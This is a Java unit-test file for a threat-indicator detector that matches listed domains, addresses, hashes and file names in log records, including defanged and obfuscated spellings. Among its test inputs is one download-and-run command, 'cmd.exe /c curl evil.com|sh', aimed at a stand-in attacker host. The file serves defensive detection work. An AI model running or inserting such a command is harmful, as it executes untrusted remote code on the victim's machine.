package org.tocsin.detect.indicators;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.tocsin.detect.Detector;
import org.tocsin.knowledge.attack.GroupNames;
import org.tocsin.knowledge.indicators.Indicator;
import org.tocsin.knowledge.indicators.IndicatorFiles;
import org.tocsin.knowledge.indicators.IndicatorPack;
import org.tocsin.knowledge.indicators.IndicatorType;
import org.tocsin.knowledge.services.SharedServices;
import org.tocsin.model.Finding;
import org.tocsin.model.Kind;
import org.tocsin.model.Level;
import org.tocsin.model.Origin;
import org.tocsin.model.PlainRecord;
import org.tocsin.model.RuleLook;
import org.tocsin.model.Shape;
import org.tocsin.model.SourceSeen;
import org.tocsin.testkit.SharedData;

class IndicatorDetectionTest {
    private static final Origin HERE = new Origin("sha256:00", "here", 1, 0);
    private static final GroupNames GROUPS = GroupNames.carried();
    private static final Shape.Table SHAPES = new Shape.Table();
    private static final String MD5 = "0123456789abcdef0123456789abcdef";
    private static final String SHA256 = MD5 + MD5;

    private static Indicator listed(IndicatorType type, String value) {
        return new Indicator(
                type, value, "", Optional.empty(), new Indicator.About("list.txt", "", "", List.of(), List.of()), 1);
    }

    private static IndicatorPack pack(String name, Indicator... all) {
        return new IndicatorPack(name, "sha256:" + name, List.of(all), List.of(), List.of(), new TreeMap<>());
    }

    private static IndicatorDetection detection(Indicator... all) {
        return IndicatorDetection.of(List.of(pack("list.txt", all)), SharedServices.NONE, GROUPS);
    }

    private static final IndicatorDetection ALL = detection(
            listed(IndicatorType.DOMAIN, "evil.com"),
            listed(IndicatorType.DOMAIN, "xn--bcher-kva.example"),
            listed(IndicatorType.DOMAIN, "faß.example"),
            listed(IndicatorType.URL, "host.example/Path/a.php?q=1"),
            listed(IndicatorType.EMAIL, "john@mail.example"),
            listed(IndicatorType.EMAIL, "odd@localname"),
            listed(IndicatorType.ADDRESS, "1.2.3.4"),
            listed(IndicatorType.ADDRESS, "2001:db8::5"),
            listed(IndicatorType.NETWORK, "9.8.7.0/24"),
            listed(IndicatorType.MD5, MD5),
            listed(IndicatorType.SHA256, SHA256),
            listed(IndicatorType.FILE_NAME, "bad tool (1).exe"),
            listed(IndicatorType.FILE_NAME, "implant.dll"),
            listed(IndicatorType.FILE_NAME, "copy of (tool)"),
            listed(IndicatorType.FILE_PATH, "C:\\ProgramData\\Sync\\helper.bin"),
            listed(IndicatorType.PROCESS_NAME, "roleaccountd"));

    private static List<Finding> findings(IndicatorDetection detection, PlainRecord.Builder record) {
        List<Finding> found = new ArrayList<>();
        detection.open().examine(record.build(Kind.WINDOWS_EVENT, SHAPES, HERE), found::add, match -> {});
        return found;
    }

    private static List<Finding> in(String field, String value) {
        return findings(ALL, new PlainRecord.Builder().text(field, value));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "evil.com",
                "EVIL.COM",
                "evil.com.",
                "visit evil.com, now",
                "http://evil.com/x",
                "https://user:word@evil.com:8443/x",
                "hxxp://evil[.]com/x",
                "evil [dot] com",
                "evil(.)com",
                "ev\u00ADil.com",
                "ｅｖｉｌ．ｃｏｍ",
                "evil。com",
                "请访问evil.com查看",
                "ข่าวevil.comข่าว",
                "<a href='https://evil.com'>",
                "https://good.example/?u=https%3A%2F%2Fevil.com%2Fx",
                "\\\\evil.com\\share",
                "someone@evil.com",
                "cmd.exe /c curl evil.com|sh",
                "{\"host\":\"evil.com\"}",
                "url=evil.com&x=1",
                "-evil.com",
            })
    void a_listed_domain_is_seen_however_it_is_written(String value) {
        assertThat(in("Text", value)).singleElement().satisfies(finding -> {
            assertThat(finding.rule().level()).isEqualTo(Level.HIGH);
            assertThat(finding.rule().title()).isEqualTo("Indicator: domain evil.com");
            assertThat(finding.why().getFirst().matched()).isEqualTo("evil.com");
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"www.evil.com", "a.b.evil.com", "http://a.evil.com/", "x@mx.evil.com", "_dmarc.evil.com"})
    void a_name_below_a_listed_domain_is_seen_as_less(String value) {
        assertThat(in("Text", value)).singleElement().satisfies(finding -> {
            assertThat(finding.rule().level()).isEqualTo(Level.MEDIUM);
            assertThat(finding.rule().title()).isEqualTo("Indicator: a name below domain evil.com");
            assertThat(finding.why().getFirst().matched()).contains("is a name below it");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "notevil.com",
                "not-evil.com",
                "evil.community",
                "evil.com.example.org",
                "evil.co",
                "evil-com",
                "evilcom",
                "evil..com",
                "C:\\tools\\evil.com",
                "xjohn@mail.example",
                "john@mail.example.org",
                "john+x@mail.example",
                "a.john@mail.example",
                "11.2.3.45",
                "1.2.3.45",
                "11.2.3.4",
                "1.2.3.4.5",
                "0.1.2.3.4",
                "1.2.3.4x",
                "01.2.3.4",
                "Browser/1.2.3.4 (Desktop)",
                "Assembly, Version=1.2.3.4, Culture=neutral",
                "version: 1.2.3.4",
                "C:\\Program Files\\App\\1.2.3.4\\app.exe",
                "9.8.6.255",
                "9.8.8.0",
                "a" + MD5,
                MD5 + "0",
                "2001:db8::55",
                "x2001:db8::5",
                "12:34:56",
                "other-implant.dll",
                "implant.dll.bak",
                "implant.dll\\x",
                "roleaccountd",
                "/en/roleaccountd/x",
                "C:\\ProgramData\\Sync\\helper.bin2",
                "bücher.example.org",
                "fass.example",
                "",
                "....",
                "@",
                "://",
            })
    void near_misses_are_not_met(String value) {
        assertThat(in("Text", value)).isEmpty();
    }

    @Test
    void a_version_in_a_field_of_versions_is_no_address() {
        assertThat(in("FileVersion", "1.2.3.4")).isEmpty();
        assertThat(in("DestinationIp", "1.2.3.4")).hasSize(1);
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '~',
            delimiter = ';',
            value = {
                "1.2.3.4; HIGH",
                "1.2.3[.]4; HIGH",
                "http://1.2.3.4/x; HIGH",
                "1.2.3.4:443; HIGH",
                "from [1.2.3.4] by; HIGH",
                "::ffff:1.2.3.4; HIGH",
                "::ffff:102:304; HIGH",
                "2001:DB8:0:0::5; HIGH",
                "[2001:db8::5]:443; HIGH",
                "IP:2001:db8::5; HIGH",
                "9.8.7.250; MEDIUM",
                "JOHN@mail.example; HIGH",
                "odd@localname; HIGH",
                "To: <john@mail.example>; HIGH",
                "to=john@mail.example; HIGH",
                "'john@mail.example'; HIGH",
                "john [at] mail [dot] example; HIGH",
                "https://HOST.example/Path/a.php?q=1; HIGH",
                "host.example/Path/a.php?q=1#x; HIGH",
                "(see http://host.example/Path/a.php?q=1).; HIGH",
                "http://host.example:80/Path/a.php?q=1/; HIGH",
                "http://host.example/other; LOW",
                "host.example; LOW",
                "bücher.example; HIGH",
                "XN--BCHER-KVA.example; HIGH",
                "BÜCHER.example; HIGH",
                "www.bücher.example; MEDIUM",
                "faß.example; HIGH",
                "C:\\Users\\x\\implant.dll; MEDIUM",
                "regsvr32 /s C:\\x\\IMPLANT.DLL; MEDIUM",
                "implant.dll; MEDIUM",
                "C:\\Users\\x\\bad tool (1).exe; MEDIUM",
                "c:/programdata/sync/HELPER.BIN; MEDIUM",
                "\"C:\\ProgramData\\Sync\\helper.bin\" -k; MEDIUM",
                "run C:\\ProgramData\\Sync\\helper.bin now; MEDIUM",
            })
    void every_kind_is_met(String value, Level level) {
        assertThat(in("Text", value))
                .singleElement()
                .satisfies(finding -> assertThat(finding.rule().level()).isEqualTo(level));
    }

    @Test
    void a_name_that_ends_in_a_bracket_is_met_in_a_field_of_names() {
        assertThat(in("FileName", "D:\\x\\copy of (tool)")).hasSize(1);
        assertThat(in("FileName", "copy of (tool) 2")).isEmpty();
    }

    @Test
    void hashes_are_met_in_the_lists_that_sysmon_writes() {
        List<Finding> found = in("Hashes", "SHA1=00,MD5=" + MD5.toUpperCase() + ",SHA256=" + SHA256 + ",IMPHASH=1");
        assertThat(found)
                .extracting(finding -> finding.rule().title())
                .containsExactly("Indicator: MD5 " + MD5, "Indicator: SHA-256 " + SHA256);
    }

    @Test
    void a_bare_process_name_counts_only_where_a_field_holds_names() {
        assertThat(in("ProcessName", "roleaccountd")).hasSize(1);
        assertThat(in("Image", "/usr/libexec/roleaccountd")).hasSize(1);
    }

    @Test
    void one_indicator_gives_one_finding_a_record_with_every_field() {
        List<Finding> found = findings(
                ALL,
                new PlainRecord.Builder()
                        .text("A", "www.evil.com www.evil.com")
                        .text("B", "evil.com")
                        .text("C", "nothing"));
        assertThat(found).singleElement().satisfies(finding -> {
            assertThat(finding.rule().level()).isEqualTo(Level.HIGH);
            assertThat(finding.why()).extracting(Finding.Why::field).containsExactly("A", "B");
        });
    }

    @Test
    void the_longest_listed_name_counts() {
        IndicatorDetection both =
                detection(listed(IndicatorType.DOMAIN, "evil.com"), listed(IndicatorType.DOMAIN, "a.evil.com"));
        assertThat(findings(both, new PlainRecord.Builder().text("A", "x.a.evil.com")))
                .extracting(finding -> finding.rule().title())
                .containsExactly("Indicator: a name below domain a.evil.com");
    }

    @Test
    void a_record_that_quotes_a_whole_list_gives_a_bounded_number_of_findings() {
        Indicator[] many = new Indicator[500];
        StringBuilder quoted = new StringBuilder();
        for (int i = 0; i < many.length; i++) {
            many[i] = listed(IndicatorType.DOMAIN, "evil" + i + ".example");
            quoted.append("evil").append(i).append(".example\n");
        }
        List<Finding> found = findings(detection(many), new PlainRecord.Builder().text("Body", quoted.toString()));
        assertThat(found).hasSize(IndicatorDetector.MOST + 1);
        assertThat(found.getLast().rule()).isEqualTo(Rulebook.MANY);
        assertThat(found.getLast().why().getFirst().matched()).startsWith("450 further");
    }

    @Test
    void a_long_value_is_quoted_around_what_was_seen() {
        List<Finding> found = in("Body", "x ".repeat(5_000) + "evil.com" + " y".repeat(5_000));
        String value = found.getFirst().why().getFirst().value();
        assertThat(value)
                .hasSizeLessThan(400)
                .contains("evil.com")
                .startsWith("…")
                .endsWith("…");
    }

    @Test
    void an_indicator_past_its_time_counts_for_little_and_says_so() {
        Indicator old = new Indicator(
                IndicatorType.ADDRESS,
                "1.2.3.4",
                "indicator--1",
                Optional.of(Instant.parse("2018-01-01T00:00:00Z")),
                new Indicator.About("list.txt", "", "", List.of(), List.of()),
                1);
        IndicatorDetection detection = detection(old);
        assertThat(findings(detection, at("2017-01-01T00:00:00Z"))
                        .getFirst()
                        .rule()
                        .level())
                .isEqualTo(Level.HIGH);
        Finding late = findings(detection, at("2019-01-01T00:00:00Z")).getFirst();
        assertThat(late.rule().level()).isEqualTo(Level.LOW);
        assertThat(late.rule().title()).contains("no longer upheld");
        assertThat(late.rule().id()).isEqualTo("indicator--1/past");
    }

    private static PlainRecord.Builder at(String time) {
        return new PlainRecord.Builder().text("Ip", "1.2.3.4").time(Instant.parse(time));
    }

    @Test
    void names_every_list_that_has_it_and_whom_it_points_to() {
        Indicator plain = listed(IndicatorType.DOMAIN, "evil.example");
        Indicator told = new Indicator(
                IndicatorType.DOMAIN,
                "evil.example",
                "indicator--7",
                Optional.empty(),
                new Indicator.About("b.stix2", "Pegasus", "Words.", List.of("tag"), List.of("https://lab.example/r")),
                9);
        IndicatorDetection detection =
                IndicatorDetection.of(List.of(pack("first", plain), pack("second", told)), SharedServices.NONE, GROUPS);
        assertThat(findings(detection, new PlainRecord.Builder().text("A", "evil.example")))
                .singleElement()
                .satisfies(finding -> {
                    assertThat(finding.rule().id()).isEqualTo("indicator--7");
                    assertThat(finding.rule().title()).isEqualTo("Indicator: domain evil.example (Pegasus)");
                    assertThat(finding.rule().source()).isEqualTo("second/b.stix2");
                    assertThat(finding.rule().description()).isEqualTo("Words. Also listed in first/list.txt.");
                    assertThat(finding.rule().references()).containsExactly("https://lab.example/r");
                    assertThat(finding.rule().tags()).containsExactly("tag");
                    assertThat(finding.rule().namesGroup()).isTrue();
                });
    }

    @Test
    void shared_services_are_left_out_and_listed_with_the_reason() throws IOException {
        SharedServices shared = SharedServices.read(SharedData.root().resolve("content/shared-services"));
        IndicatorDetection detection = IndicatorDetection.of(
                List.of(pack(
                        "p",
                        listed(IndicatorType.DOMAIN, "mail.com"),
                        listed(IndicatorType.DOMAIN, "evil.ddns.net"),
                        listed(IndicatorType.URL, "bit.ly/abc"),
                        listed(IndicatorType.EMAIL, "john@gmail.com"))),
                shared,
                GROUPS);
        assertThat(detection.packs().getFirst().loaded()).isEqualTo(3);
        assertThat(detection.packs().getFirst().refused())
                .singleElement()
                .satisfies(refusal ->
                        assertThat(refusal.reason()).startsWith("mail.com is a mail provider that many people use"));
        assertThat(titles(detection, "someone@mail.com bit.ly/xyz ddns.net gmail.com other.ddns.net"))
                .isEmpty();
        assertThat(titles(detection, "a.evil.ddns.net http://bit.ly/abc john@gmail.com"))
                .hasSize(3);
    }

    private static List<String> titles(IndicatorDetection detection, String text) {
        return findings(detection, new PlainRecord.Builder().text("A", text)).stream()
                .map(finding -> finding.rule().title())
                .toList();
    }

    @Test
    void says_whether_it_could_have_looked() {
        IndicatorPack phone = new IndicatorPack(
                "phone",
                "sha256:1",
                List.of(listed(IndicatorType.DOMAIN, "evil.example")),
                List.of(),
                List.of(),
                new TreeMap<>(Map.of("app:id", 3)));
        IndicatorDetection detection = IndicatorDetection.of(List.of(phone), SharedServices.NONE, GROUPS);
        assertThat(detection.looks(List.of()))
                .extracting(RuleLook::state)
                .containsExactly(RuleLook.State.NO_SUCH_LOG, RuleLook.State.UNKNOWN_SOURCE);
        SourceSeen mail = new SourceSeen(Kind.MAIL_MESSAGE, "", "", "", "", 5, Optional.empty(), Optional.empty());
        assertThat(detection.looks(List.of(mail, mail)))
                .extracting(RuleLook::state, RuleLook::looked)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(RuleLook.State.LOOKED, 10L),
                        org.assertj.core.groups.Tuple.tuple(RuleLook.State.UNKNOWN_SOURCE, 0L));
    }

    @Test
    void the_key_tells_sets_and_lists_of_services_apart() throws IOException {
        SharedServices shared = SharedServices.read(SharedData.root().resolve("content/shared-services"));
        IndicatorPack one = pack("one", listed(IndicatorType.DOMAIN, "evil.example"));
        IndicatorPack two = pack("two", listed(IndicatorType.DOMAIN, "evil.example"));
        assertThat(List.of(
                        IndicatorDetection.of(List.of(one), shared, GROUPS).key(),
                        IndicatorDetection.of(List.of(two), shared, GROUPS).key(),
                        IndicatorDetection.of(List.of(one), SharedServices.NONE, GROUPS)
                                .key(),
                        IndicatorDetection.of(List.of(), SharedServices.NONE, GROUPS)
                                .key()))
                .doesNotHaveDuplicates();
        assertThat(titles(IndicatorDetection.of(List.of(), shared, GROUPS), "evil.example 1.2.3.4 a@b.c " + MD5))
                .isEmpty();
    }

    @Test
    void agrees_with_a_plain_reading_of_the_rule_for_domains() {
        Random random = new Random(3);
        String[] words = {"a", "b", "evil", "com", "x1", "co", "net", "9"};
        String[] between = {" ", "/", "//", ".", ".", ".", "..", "@", ":", "\"", "\n", "_", "-", "", ",", "，", "é"};
        for (int round = 0; round < 3_000; round++) {
            List<String> listed = new ArrayList<>();
            for (int i = 0; i < 6; i++) {
                listed.add(words[random.nextInt(7)] + "." + words[random.nextInt(4)]
                        + (random.nextBoolean() ? "." + words[random.nextInt(4)] : ""));
            }
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < 25; i++) {
                text.append(words[random.nextInt(words.length)]).append(between[random.nextInt(between.length)]);
            }
            IndicatorDetection detection = detection(listed.stream()
                    .distinct()
                    .map(v -> listed(IndicatorType.DOMAIN, v))
                    .toArray(Indicator[]::new));
            assertThat(titles(detection, text.toString()))
                    .as(listed + " in " + text)
                    .containsExactlyInAnyOrderElementsOf(plainly(listed, text.toString()));
        }
    }

    /// Splits a text at everything that is no part of a name, and compares each name and its parents label by label.
    private static List<String> plainly(List<String> listed, String text) {
        TreeMap<String, Boolean> met = new TreeMap<>();
        for (String run : text.split("[^a-z0-9.é_-]+")) {
            String name = run.replaceAll("^[.-]+|\\.+$", "");
            String[] labels = name.split("\\.", -1);
            if (name.matches("[0-9.]*")) {
                continue;
            }
            for (int from = 0; from < labels.length - 1; from++) {
                String parent = String.join(".", Arrays.copyOfRange(labels, from, labels.length));
                if (listed.contains(parent)) {
                    met.merge(parent, from == 0, Boolean::logicalOr);
                    break;
                }
            }
        }
        return met.entrySet().stream()
                .map(one -> "Indicator: " + (one.getValue() ? "" : "a name below ") + "domain " + one.getKey())
                .toList();
    }

    @Test
    void hostile_texts_cost_no_more_than_their_length() {
        Detector detector = ALL.open();
        for (String part : List.of(
                "[.]",
                "(at)",
                ".",
                "@",
                "a@",
                "%2F",
                "::",
                "1.",
                "a.",
                "/",
                "\\a",
                "host.example/",
                "host.example",
                "\u00AD",
                "\uD800",
                "中.",
                "'",
                "\"/a",
                "john@mail.example",
                "0:",
                "[",
                "x@host.example/")) {
            String text = part.repeat(400_000 / part.length());
            List<Finding> found = new ArrayList<>();
            detector.examine(
                    new PlainRecord.Builder()
                            .text("A", text)
                            .text("B", "evil.com")
                            .build(Kind.MAIL_MESSAGE, SHAPES, HERE),
                    found::add,
                    match -> {});
            assertThat(found)
                    .as(part)
                    .extracting(finding -> finding.rule().title())
                    .contains("Indicator: domain evil.com");
        }
    }

    @Test
    void random_bytes_do_no_harm() {
        Random random = new Random(5);
        Detector detector = ALL.open();
        for (int round = 0; round < 3_000; round++) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < 200; i++) {
                text.append((char)
                        (random.nextInt(4) == 0
                                ? random.nextInt(65_536)
                                : "ev1.@:/\\[]()%x中 ".charAt(random.nextInt(16))));
            }
            List<Finding> found = new ArrayList<>();
            detector.examine(
                    new PlainRecord.Builder()
                            .text("A", text.toString())
                            .text("B", "evil.com")
                            .build(Kind.FILE, SHAPES, HERE),
                    found::add,
                    match -> {});
            assertThat(found).isNotEmpty();
        }
    }

    @Test
    void every_listed_domain_of_the_shared_sets_is_met_in_a_sentence() throws IOException {
        IndicatorPack pack = IndicatorFiles.read(SharedData.require("indicators"));
        SharedServices shared = SharedServices.read(SharedData.root().resolve("content/shared-services"));
        IndicatorDetection detection = IndicatorDetection.of(List.of(pack), shared, GROUPS);
        long missed = pack.indicators().stream()
                .filter(one -> switch (one.type()) {
                    case FILE_NAME, FILE_PATH, PROCESS_NAME -> false;
                    case DOMAIN, URL, ADDRESS, NETWORK, EMAIL, MD5, SHA1, SHA256, SHA512 ->
                        shared.category(one.type(), one.value()).isEmpty();
                })
                .filter(one ->
                        findings(detection, new PlainRecord.Builder().text("Text", "see <" + one.value() + ">, please"))
                                .stream()
                                .noneMatch(finding -> finding.rule().level() == Level.HIGH))
                .peek(one -> System.err.println("missed " + one))
                .count();
        assertThat(missed).isZero();
    }
}
